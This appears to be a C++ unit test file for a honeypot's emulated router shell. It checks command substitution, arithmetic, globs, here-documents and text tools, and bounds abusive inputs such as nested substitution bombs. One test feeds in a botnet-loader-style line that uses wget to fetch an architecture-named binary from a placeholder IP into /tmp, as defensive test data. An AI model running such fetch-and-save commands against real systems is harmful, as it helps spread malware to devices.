// What loaders rely on from the shell (issue 17 item 2): command substitution, arithmetic, globs
// over the session's filesystem and here-documents, each bounded and counted when abused.

#include <gtest/gtest.h>

#include "honeypot/shell/arithmetic.h"
#include "honeypot/shell/shell.h"
#include "unit/honeypot/shell/persona_fixture.h"

namespace kansoku::honeypot::shell {
namespace {

std::string none(std::string_view) {
    return {};
}

TEST(ArithmeticTest, PosixOperatorsAndPrecedence) {
    const VariableLookup vars = [](std::string_view name) -> std::string {
        return name == "n" ? "7" : name == "junk" ? "abc" : "";
    };
    const std::vector<std::pair<std::string, int64_t>> cases = {
        {"1 + 2 * 3", 7},      {"(1 + 2) * 3", 9}, {"n * 2", 14},         {"$n - 10", -3},  {"junk + 1", 1},
        {"unset + 1", 1},      {"0x10 + 010", 24}, {"7 / 2", 3},          {"-7 % 3", -1},   {"1 << 4 | 1", 17},
        {"3 > 2 && 2 > 3", 0}, {"!0 + ~0", 0},     {"n == 7 ? 1 : 2", 1}, {"5 ^ 3 & 1", 4}, {"2 <= 2", 1},
    };
    for (const auto& [expression, value] : cases) {
        const ArithmeticResult result = evaluateArithmetic(expression, vars);
        ASSERT_TRUE(result.value) << expression << ": " << result.error;
        EXPECT_EQ(*result.value, value) << expression;
    }
    EXPECT_EQ(evaluateArithmetic("1 / 0", vars).error, "divide by zero");
    EXPECT_EQ(evaluateArithmetic("1 +", vars).error, "arithmetic syntax error");
    EXPECT_EQ(evaluateArithmetic("09", vars).error, "arithmetic syntax error");
    EXPECT_FALSE(evaluateArithmetic(std::string(10000, '(') + "1" + std::string(10000, ')'), none).value);
}

TEST(ShellExpansionTest, CommandSubstitutionAndBackquotes) {
    Shell shell(testing::routerPersona());
    EXPECT_EQ(shell.run("echo arch=$(uname -m)").output, "arch=mips\n");
    EXPECT_EQ(shell.run("echo `uname -m`.bin").output, "mips.bin\n");
    EXPECT_EQ(shell.run("A=$(echo x86); echo \"$A-$(echo $(echo nested))\"").output, "x86-nested\n");
    EXPECT_EQ(shell.run("cd /tmp; echo $(pwd) $(cd /etc; pwd) $(pwd)").output, "/tmp /etc /tmp\n");
    auto result = shell.run("wget http://192.0.2.9/$(uname -m) -O /tmp/a");
    ASSERT_EQ(result.downloads.size(), 1u);
    EXPECT_EQ(result.downloads[0].url, "http://192.0.2.9/mips");
    EXPECT_NE(shell.run("echo $(echo x").output.find("syntax error"), std::string::npos);
}

TEST(ShellExpansionTest, ArithmeticExpansion) {
    Shell shell(testing::routerPersona());
    EXPECT_EQ(shell.run("i=3; echo $((i * 2 + 1)) $(( $(echo 4) << 1 ))").output, "7 8\n");
    ShellResult bad = shell.run("echo $((1 / 0)); echo after");
    EXPECT_EQ(bad.output, "-sh: divide by zero\nafter\n"); // the login shell's name
    EXPECT_EQ(bad.limits.get(ShellLimit::Expansion), 1u);
}

TEST(ShellExpansionTest, SubstitutionBombsAreBoundedAndCounted) {
    Shell shell(testing::routerPersona());
    std::string bomb = "echo hi";
    for (int i = 0; i < 20; ++i) {
        bomb = "echo $(" + bomb + ")";
    }
    ShellResult result = shell.run(bomb);
    EXPECT_GT(result.limits.get(ShellLimit::ScriptDepth), 0u);
    EXPECT_NE(result.output.find("script nesting too deep"), std::string::npos);
    // Wide rather than deep: the per-run command limit stops it.
    std::string wide = "echo";
    for (int i = 0; i < 600; ++i) {
        wide += " $(true)";
    }
    EXPECT_GT(shell.run(wide).limits.get(ShellLimit::Commands), 0u);
}

TEST(ShellExpansionTest, GlobsMatchTheSessionFilesystem) {
    Shell shell(testing::routerPersona());
    shell.run("cd /tmp; echo > x.arm; echo > x.mips; echo > .hidden; mkdir d; echo > d/y.arm");
    EXPECT_EQ(shell.run("echo x.*").output, "x.arm x.mips\n");
    EXPECT_EQ(shell.run("echo /tmp/*/*.arm").output, "/tmp/d/y.arm\n");
    EXPECT_EQ(shell.run("echo x.?rm '*' \"x.*\"").output, "x.arm * x.*\n");
    EXPECT_EQ(shell.run("echo nomatch*").output, "nomatch*\n");
    EXPECT_EQ(shell.run("echo .h*").output, ".hidden\n");
    ShellResult removed = shell.run("rm -f x.*; ls");
    EXPECT_EQ(removed.output.find("x.arm"), std::string::npos) << removed.output;
}

TEST(ShellExpansionTest, GlobsOverWideTreesAreCut) {
    ShellLimits limits;
    limits.max_glob_matches = 10;
    Shell shell(testing::routerPersona(), limits);
    std::string make = "cd /tmp";
    for (int i = 0; i < 30; ++i) {
        make += "; echo > f" + std::to_string(i);
    }
    shell.run(make);
    ShellResult result = shell.run("echo f*");
    EXPECT_GT(result.limits.get(ShellLimit::Globs), 0u);
    EXPECT_EQ(std::count(result.output.begin(), result.output.end(), ' '), 9);
}

TEST(ShellExpansionTest, HereDocumentsInOneTextAndLineByLine) {
    Shell shell(testing::routerPersona());
    shell.run("X=world\ncat > /tmp/h <<EOF\nhello $X\n'quoted' \"too\"\nEOF\ncat <<'END' >> /tmp/h\nno $X here\nEND");
    EXPECT_EQ(shell.filesystem().read("/tmp/h").value_or(""), "hello world\n'quoted' \"too\"\nno $X here\n");
    // Interactive: the lines arrive one at a time.
    ShellResult first = shell.run("cat > /tmp/i <<-EOF");
    EXPECT_TRUE(first.continuation);
    EXPECT_TRUE(shell.run("\tline one").continuation);
    ShellResult last = shell.run("\tEOF");
    EXPECT_FALSE(last.continuation);
    EXPECT_EQ(shell.filesystem().read("/tmp/i").value_or(""), "line one\n");
    // In a script run by sh.
    shell.run("printf 'cat > /tmp/j <<E\\nbody\\nE\\necho done > /tmp/k\\n' > /tmp/s; sh /tmp/s");
    EXPECT_EQ(shell.filesystem().read("/tmp/j").value_or(""), "body\n");
    EXPECT_EQ(shell.filesystem().read("/tmp/k").value_or(""), "done\n");
}

TEST(ShellExpansionTest, HereDocumentsWithoutAnEndAreBounded) {
    ShellLimits limits;
    limits.max_line_bytes = 200;
    Shell shell(testing::routerPersona(), limits);
    EXPECT_TRUE(shell.run("cat > /tmp/u <<NEVER").continuation);
    ShellResult result;
    for (int i = 0; i < 20 && (i == 0 || result.continuation); ++i) {
        result = shell.run("0123456789012345678901234567890123456789");
    }
    EXPECT_FALSE(result.continuation);
    EXPECT_EQ(result.limits.get(ShellLimit::HereDocs), 1u);
    EXPECT_NE(result.output.find("here-document too long"), std::string::npos);
    EXPECT_EQ(shell.run("echo back").output, "back\n"); // the shell goes on
    // In a script (or an exec command) the rest of the text is the body, counted.
    ShellResult script = shell.run("sh -c 'cat > /tmp/v <<NEVER\nabc'");
    EXPECT_EQ(script.limits.get(ShellLimit::HereDocs), 1u);
    EXPECT_EQ(shell.filesystem().read("/tmp/v").value_or(""), "abc\n");
}

TEST(ShellExpansionTest, TailSedAwkInTheFormsLoadersUse) {
    Shell shell(testing::routerPersona());
    shell.run("printf 'a b c\\nd:e:f\\nlast line here\\n' > /tmp/t");
    EXPECT_EQ(shell.run("tail -n 2 /tmp/t").output, "d:e:f\nlast line here\n");
    EXPECT_EQ(shell.run("tail -1 /tmp/t").output, "last line here\n");
    EXPECT_EQ(shell.run("tail -c 5 /tmp/t").output, "here\n");
    EXPECT_EQ(shell.run("echo aXbXc | sed 's/X/-/g'").output, "a-b-c\n");
    EXPECT_EQ(shell.run("echo aXbXc | sed 's|X|/|'").output, "a/bXc\n");
    shell.run("sed -i 's/e/E/g' /tmp/t");
    EXPECT_EQ(shell.run("head -n 2 /tmp/t").output, "a b c\nd:E:f\n");
    EXPECT_EQ(shell.run("awk '{print $2}' /tmp/t").output, "b\n\nlinE\n");
    EXPECT_EQ(shell.run("awk -F: '{print $3, $1}' /tmp/t").output, " a b c\nf d\n last linE hErE\n");
    EXPECT_EQ(shell.run("tail -n 1 /tmp/t | awk '{print $NF}'").output, "hErE\n");
    EXPECT_NE(shell.run("sed 'y/a/b/' /tmp/t").output.find("sed: unsupported command y"), std::string::npos);
}

} // namespace
} // namespace kansoku::honeypot::shell
